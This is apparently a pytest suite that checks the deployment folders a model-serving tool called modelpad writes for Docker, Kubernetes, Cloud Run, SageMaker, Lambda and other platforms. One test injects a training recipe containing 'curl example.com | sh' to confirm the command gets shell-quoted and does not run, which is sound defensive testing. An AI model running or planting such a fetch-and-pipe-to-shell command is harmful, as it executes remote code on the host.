"""Every target's folder passes the checks of the platform that takes it."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest

from modelpad.bundle import Bundle, open_bundle
from modelpad.deploy.cloud_run import choose_cpus, split_tag
from modelpad.deploy.deployment import Deployment, Plan, Sizing
from modelpad.deploy.image import find_extras
from modelpad.deploy.kserve import write_service
from modelpad.deploy.sky import write_train
from modelpad.deploy.targets import FILES, TARGETS, make_plan
from modelpad.deploy.wheel import NAME
from modelpad.errors import Unsupported, UsageError
from modelpad.store import LocalStore, ResolvedBundle

Write = Callable[[str], tuple[Plan, Path]]

KUBERNETES = "1.31"
IMAGES = sorted({*TARGETS} - {"app-engine", "sky", "ray"})


def read_yaml(path: Path) -> Any:
    yaml = pytest.importorskip("yaml")
    return yaml.safe_load(path.read_text("utf-8"))


def find_tool(name: str) -> str:
    """A tool of the running Python's environment, or of the system."""
    path = shutil.which(name, path=str(Path(sys.executable).parent)) or shutil.which(name)
    if path is None:
        pytest.skip(f"{name} is not installed")
    return path


def check_schema(schema: str, path: Path) -> None:
    """Checks a file with a schema that check-jsonschema ships with."""
    command = [find_tool("check-jsonschema"), "--builtin-schema", f"vendor.{schema}", str(path)]
    done = subprocess.run(command, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("target", TARGETS)
def test_a_folder_has_the_models_as_a_store(write_target: Write, target: str) -> None:
    _, folder = write_target(target)
    store = LocalStore(folder / "models")
    wanted = {"digits": [3]} | ({} if target == "sagemaker" else {"Other_one": [12]})
    assert {name: store.versions(name) for name in store.names()} == wanted
    assert store.verify() == []
    assert (folder / NAME).is_file()
    assert f"./{NAME} \\" in (folder / "requirements.txt").read_text("utf-8")


@pytest.mark.parametrize("target", TARGETS)
def test_a_readme_explains_every_file(write_target: Write, target: str) -> None:
    plan, folder = write_target(target)
    text = (folder / "README.md").read_text("utf-8")
    if target == "spaces":  # the card of the Space
        return
    assert all(command in text for command in plan.commands)
    assert plan.rollback in text
    known = {*FILES, "README.md", "requirements.txt", NAME, ".dockerignore", ".gcloudignore"}
    assert {path.name for path in folder.iterdir()} <= known


def test_two_runs_write_the_same(write_target: Write, deployment: Deployment) -> None:
    plan, _ = write_target("kubernetes")
    assert make_plan("kubernetes", deployment) == plan


@pytest.mark.parametrize("slim", [False, True], ids=["default", "slim"])
@pytest.mark.parametrize("target", IMAGES)
def test_dockerfile(deployment: Deployment, tmp_path: Path, target: str, slim: bool) -> None:
    models = deployment.models[:1]
    plan = make_plan(target, replace(deployment, models=models, slim=slim))
    dockerfile = plan.files["Dockerfile"]
    assert isinstance(dockerfile, bytes)
    text = dockerfile.decode()
    assert ("FROM scratch AS runtime" in text) is slim
    assert re.search(r"^USER \d+:\d+$", text, re.MULTILINE)
    assert text.rstrip().endswith("COPY models/ /models/"), "the models are the last layer"
    copied = set(re.findall(r"^COPY ([\w. -]+) \./$", text, re.MULTILINE)[0].split())
    assert copied == {"requirements.txt", NAME, "assemble.py", "health.py"}
    assert copied <= set(plan.files)
    (tmp_path / "Dockerfile").write_bytes(dockerfile)
    done = subprocess.run(
        [find_tool("hadolint"), "--no-color", str(tmp_path / "Dockerfile")],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_compose_file_and_workflow(write_target: Write) -> None:
    _, folder = write_target("docker")
    check_schema("compose-spec", folder / "compose.yaml")
    check_schema("github-workflows", folder / ".github" / "workflows" / "image.yaml")


def test_the_workflow_names_the_image_in_lower_case(write_target: Write, tmp_path: Path) -> None:
    _, folder = write_target("docker")
    workflow = read_yaml(folder / ".github" / "workflows" / "image.yaml")
    run = workflow["jobs"]["image"]["steps"][0]["run"]
    variables = {"GITHUB_REPOSITORY_OWNER": "Some-Org", "GITHUB_ENV": str(tmp_path / "env")}
    subprocess.run(["bash", "-ec", run], env=os.environ | variables, check=True)
    assert (tmp_path / "env").read_text() == "IMAGE=ghcr.io/some-org/digits-other-one:3.12\n"


def test_makefile(write_target: Write) -> None:
    plan, folder = write_target("docker")
    command = ["make", "--dry-run", "--no-print-directory", "build", "run"]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True)
    assert done.stdout.splitlines() == list(plan.commands)


def test_kubernetes(write_target: Write) -> None:
    validator = pytest.importorskip("kubernetes_validate")
    _, folder = write_target("kubernetes")
    kustomization = read_yaml(folder / "kustomization.yaml")
    assert len(kustomization["resources"]) == 5
    for name in kustomization["resources"]:
        validator.validate(read_yaml(folder / name), KUBERNETES, strict=True)


def test_the_pods_meet_the_restricted_standard(write_target: Write) -> None:
    """https://kubernetes.io/docs/concepts/security/pod-security-standards/"""
    _, folder = write_target("kubernetes")
    pod = read_yaml(folder / "deployment.yaml")["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["runAsUser"] > 0
    assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    assert container["securityContext"]["allowPrivilegeEscalation"] is False
    assert container["securityContext"]["capabilities"] == {"drop": ["ALL"]}
    assert not {"hostNetwork", "hostPID", "hostIPC"} & set(pod)
    assert all("emptyDir" in volume for volume in pod["volumes"])


def find_unknown(value: Any, schema: str, schemas: Mapping[str, Any], path: str) -> Iterator[str]:
    """The fields that a Google API's discovery document does not know."""
    known = schemas[schema]["properties"]
    for name, child in value.items():
        if name not in known:
            yield f"{path}.{name}"
            continue
        field = known[name]
        inner = field.get("items", field)
        for one in child if isinstance(child, list) else [child]:
            if "$ref" in inner and isinstance(one, dict):
                yield from find_unknown(one, inner["$ref"], schemas, f"{path}.{name}")
            elif not _fits(one, inner.get("type", "")):
                yield f"{path}.{name}: {one!r} is not {inner.get('type', inner)}"


def _fits(value: Any, kind: str) -> bool:
    kinds: dict[str, type] = {
        "integer": int,
        "boolean": bool,
        "number": float,
        "string": str,
        "object": dict,
        "any": object,
    }
    return kind in kinds and isinstance(value, kinds[kind])


def read_schemas(api: str, version: str) -> Mapping[str, Any]:
    cache = pytest.importorskip("googleapiclient.discovery_cache")
    document = cache.get_static_doc(api, version)
    assert document, f"no document of {api} {version}"
    schemas: Mapping[str, Any] = json.loads(document)["schemas"]
    return schemas


def test_cloud_run(write_target: Write) -> None:
    _, folder = write_target("cloud-run")
    service = read_yaml(folder / "service.yaml")
    schemas = read_schemas("run", "v1")
    assert list(find_unknown(service, "Service", schemas, "service")) == []
    assert service["spec"]["template"]["spec"]["containerConcurrency"] == 16
    annotations = service["spec"]["template"]["metadata"]["annotations"]
    assert annotations["autoscaling.knative.dev/minScale"] == "0"


def test_the_readme_of_cloud_run_says_the_cpus_of_its_memory(deployment: Deployment) -> None:
    for memory_mb, size in ((512, "1 CPU and 512 MB"), (9000, "4 CPUs and 9000 MB")):
        plan = make_plan("cloud-run", replace(deployment, sizing=Sizing(1, memory_mb, 2)))
        readme = plan.files["README.md"]
        assert isinstance(readme, bytes)
        assert f"One instance has {size} of memory." in readme.decode("utf-8")


def test_unknown_fields_are_found() -> None:
    schemas = read_schemas("run", "v1")
    wrong = {"kind": "Service", "spec": {"template": {"spec": {"containers": [{"imag": "x"}]}}}}
    assert list(find_unknown(wrong, "Service", schemas, "s")) == [
        "s.spec.template.spec.containers.imag"
    ]
    assert list(find_unknown({"kind": 1}, "Service", schemas, "s")) == ["s.kind: 1 is not string"]


def test_memory_that_a_platform_does_not_give(deployment: Deployment) -> None:
    cpus = [choose_cpus(gb * 1024) for gb in (4, 5, 9, 17, 25, 32)]
    assert cpus == [1, 2, 4, 6, 8, 8]
    one = replace(deployment, models=deployment.models[:1])
    for target, memory_mb in (("cloud-run", 33280), ("sagemaker", 6656), ("lambda", 10752)):
        with pytest.raises(Unsupported, match=f"need.* {memory_mb:,} MB"):
            make_plan(target, replace(one, sizing=Sizing(1, memory_mb, 2)))


def test_cloud_build(write_target: Write) -> None:
    _, folder = write_target("cloud-run")
    check_schema("cloudbuild", folder / "cloudbuild.yaml")
    build = read_yaml(folder / "cloudbuild.yaml")
    assert list(find_unknown(build, "Build", read_schemas("cloudbuild", "v1"), "build")) == []
    base, app = build["images"]
    assert base.endswith("/digits-other-one-base:latest")
    assert app.endswith("/digits-other-one:3.12")


@pytest.mark.parametrize("tag", ["", ":1", "@sha256:0", ":1@sha256:0"])
@pytest.mark.parametrize("name", ["app", "localhost:5000/app", "europe-docker.pkg.dev/p/r/app"])
def test_the_name_of_the_base_image_is_that_of_the_app(name: str, tag: str) -> None:
    assert split_tag(name + tag) == name


def load_app(folder: Path) -> Any:
    appinfo = pytest.importorskip("google.appengine.api.appinfo")
    return appinfo.LoadSingleAppInfo((folder / "app.yaml").read_text("utf-8"))


def test_app_engine(write_target: Write) -> None:
    plan, folder = write_target("app-engine")
    assert "Dockerfile" not in plan.files
    app = load_app(folder)
    assert (app.runtime, app.instance_class) == ("python313", "F2")
    assert app.entrypoint == "exec modelpad serve"  # the platform's class adds `exec`


def test_app_engine_with_a_large_model_runs_in_the_flexible_environment(
    deployment: Deployment, tmp_path: Path
) -> None:
    large = replace(deployment, sizing=Sizing(cpus=1, memory_mb=4096, concurrency=2))
    plan = make_plan("app-engine", large)
    assert "Dockerfile" in plan.files
    content = plan.files["app.yaml"]
    assert isinstance(content, bytes)
    (tmp_path / "app.yaml").write_bytes(content)
    app = load_app(tmp_path)
    assert (app.GetEffectiveRuntime(), app.env) == ("custom", "flex")


def test_a_sagemaker_endpoint_has_one_model(deployment: Deployment) -> None:
    with pytest.raises(Unsupported, match="one model, and 2 are given"):
        make_plan("sagemaker", deployment)


def test_sagemaker(write_target: Write) -> None:
    session = pytest.importorskip("botocore.session")
    validate = pytest.importorskip("botocore.validate")
    _, folder = write_target("sagemaker")
    model = session.get_session().get_service_model("sagemaker")
    for name, operation in {
        "model.json": "CreateModel",
        "endpoint-config.json": "CreateEndpointConfig",
        "endpoint.json": "CreateEndpoint",
    }.items():
        request = json.loads((folder / name).read_text("utf-8"))
        shape = model.operation_model(operation).input_shape
        report = validate.ParamValidator().validate(request, shape)
        assert not report.has_errors(), report.generate_report()
        assert set(request) <= set(shape.members)


def test_lambda(write_target: Write) -> None:
    _, folder = write_target("lambda")
    command = [find_tool("cfn-lint"), "--non-zero-exit-code", "warning", "--regions", "eu-west-1"]
    done = subprocess.run(
        [*command, "--", str(folder / "template.yaml")], capture_output=True, text=True
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_spaces(write_target: Write, tmp_path: Path) -> None:
    hub = pytest.importorskip("huggingface_hub")
    _, folder = write_target("spaces")
    card = hub.SpaceCard.load(folder / "README.md").data
    assert (card.sdk, card.app_port) == ("docker", 7860)
    assert {card.colorFrom, card.colorTo} <= {
        *("red", "yellow", "green", "blue", "indigo", "purple", "pink", "gray")
    }
    assert len(card.short_description) <= 60
    dockerfile = (folder / "Dockerfile").read_text("utf-8")
    assert 'PORT="7860"' in dockerfile
    assert 'MODELPAD_FRAME_ANCESTORS="https://huggingface.co"' in dockerfile


def test_kserve(write_target: Write) -> None:
    kserve = pytest.importorskip("kserve")
    yaml = pytest.importorskip("yaml")
    _, folder = write_target("kserve")
    runtime = read_yaml(folder / "serving-runtime.yaml")
    assert list(walk_model(runtime, kserve.V1alpha1ServingRuntime, kserve)) == []
    services = list(yaml.safe_load_all((folder / "inference-service.yaml").read_text("utf-8")))
    assert [each["metadata"]["name"] for each in services] == ["digits", "other-one"]
    for service in services:
        assert list(walk_model(service, kserve.V1beta1InferenceService, kserve)) == []
    wrong: Any = {"spec": {"predictor": {"modl": {}}}}
    assert list(walk_model(wrong, kserve.V1beta1InferenceService, kserve)) == [
        "spec.predictor.modl"
    ]


def test_services_of_kserve_have_names_of_their_own(digits: Bundle) -> None:
    def name(model: str) -> Any:
        service: Any = write_service(ResolvedBundle(model, 1, digits))
        return service["metadata"]["name"]

    assert [name("3d_shapes"), name("net_")] == ["model-3d-shapes", "net"]
    models = tuple(ResolvedBundle(model, 1, digits) for model in ("a.b", "a_b"))
    with pytest.raises(UsageError, match=r"a\.b and a_b would both be called a-b"):
        make_plan("kserve", Deployment("models", models, Sizing(1, 512, 1)))


def test_ray(write_target: Write) -> None:
    """See also tests/cluster/test_deploy.py, where Ray reads it."""
    _, folder = write_target("ray")
    (app,) = read_yaml(folder / "config.yaml")["applications"]
    assert app["import_path"] == "app:app"
    assert app["runtime_env"]["working_dir"] == "s3://BUCKET/digits-other-one-3.12.zip"
    assert app["runtime_env"]["pip"] == [f"${{RAY_RUNTIME_ENV_CREATE_WORKING_DIR}}/{NAME}"]


def test_the_archive_for_ray_has_one_folder(write_target: Write, tmp_path: Path) -> None:
    _, folder = write_target("ray")
    shutil.copytree(folder, tmp_path / "copy")
    subprocess.run(["make", "package"], cwd=tmp_path / "copy", check=True, capture_output=True)
    with ZipFile(tmp_path / "copy" / "build" / "digits-other-one-3.12.zip") as archive:
        names = archive.namelist()
    assert {name.split("/")[0] for name in names} == {"digits-other-one-3.12"}
    files = {name.partition("/")[2] for name in names}
    assert {"app.py", NAME, "models/digits/3/manifest.json"} <= files


def walk_model(value: Any, model: Any, kserve: Any, path: str = "") -> Iterator[str]:
    """The fields that a generated class of the client does not know."""
    client = pytest.importorskip("kubernetes.client")
    fields = {model.attribute_map[name]: kind for name, kind in model.openapi_types.items()}
    for name, child in value.items():
        where = f"{path}.{name}".lstrip(".")
        if name not in fields:
            yield where
            continue
        kind = re.sub(r"^list\[(.*)\]$", r"\1", fields[name])
        inner = getattr(kserve, kind, None) or getattr(client, kind, None)
        for one in child if isinstance(child, list) else [child]:
            if inner is not None and isinstance(one, dict):
                yield from walk_model(one, inner, kserve, where)


@pytest.mark.parametrize("name", ["serve.yaml", "train.yaml"])
def test_sky(write_target: Write, name: str) -> None:
    sky = pytest.importorskip("sky")
    _, folder = write_target("sky")
    task = sky.Task.from_yaml(str(folder / name))
    assert task.use_spot
    if name == "serve.yaml":
        assert task.service.readiness_path == "/readyz"


def test_a_bundle_cannot_run_commands_in_a_training(digits: Bundle) -> None:
    recipe = "digits; curl example.com | sh"
    manifest = replace(digits.manifest, training={"recipe": recipe})
    task: Any = write_train(ResolvedBundle("digits", 1, replace(digits, manifest=manifest)))
    assert recipe in shlex.split(task["run"])


def test_models_of_texts_bring_their_tokenizer(digits: Bundle) -> None:
    files = digits.manifest.files
    manifest = replace(digits.manifest, files={**files, "tokenizer.json": files["model.onnx"]})
    models = (ResolvedBundle("words", 1, replace(digits, manifest=manifest)),)
    deployment = Deployment("words", models, Sizing(1, 512, 1), extras=frozenset({"otel"}))
    assert find_extras(deployment, grpc=True) == {"text", "grpc", "otel"}
    assert find_extras(replace(deployment, models=()), grpc=False) == {"otel"}


def test_bundles_are_copied_unaltered(write_target: Write, digits: Bundle) -> None:
    _, folder = write_target("kserve")
    copied = open_bundle(folder / "models" / "digits" / "3")
    assert copied.manifest == digits.manifest
